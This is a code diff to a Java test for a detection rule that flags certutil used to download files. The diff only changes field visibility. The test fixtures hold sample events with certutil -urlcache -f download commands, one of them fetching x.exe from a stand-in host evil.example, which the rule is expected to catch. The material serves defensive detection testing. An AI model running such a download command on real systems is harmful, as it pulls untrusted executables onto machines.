@@ -94,7 +94,7 @@ public class ExceptionsAppliedEverywhereTest {
     }
 
     static final JsonMapper JSON = JsonMapper.builder().build();
-    static final String RULE_ID = "2b0c6a4e-5d0c-4c8e-9e61-3f1e0a7c9d01";
+    public static final String RULE_ID = "2b0c6a4e-5d0c-4c8e-9e61-3f1e0a7c9d01";
     public static final String RULE = """
             title: Certutil Download Exceptions Everywhere
             id: 2b0c6a4e-5d0c-4c8e-9e61-3f1e0a7c9d01
@@ -113,7 +113,7 @@ public class ExceptionsAppliedEverywhereTest {
     public static final Map<String, Object> BUILD = event("certutil -urlcache -f http://updates.example/a.exe a.exe",
             "build-01.corp", "C:\\Tools\\deploy.exe", "CORP\\svc_build");
     /** Someone else's download: must still fire. */
-    static final Map<String, Object> OTHER = event("certutil -urlcache -f http://evil.example/x.exe x.exe",
+    public static final Map<String, Object> OTHER = event("certutil -urlcache -f http://evil.example/x.exe x.exe",
             "laptop-17.corp", "C:\\Windows\\explorer.exe", "CORP\\alice");
     static final List<String> TARGETS = List.of("sentinel-asim", "defender-xdr", "azure-monitor");
 
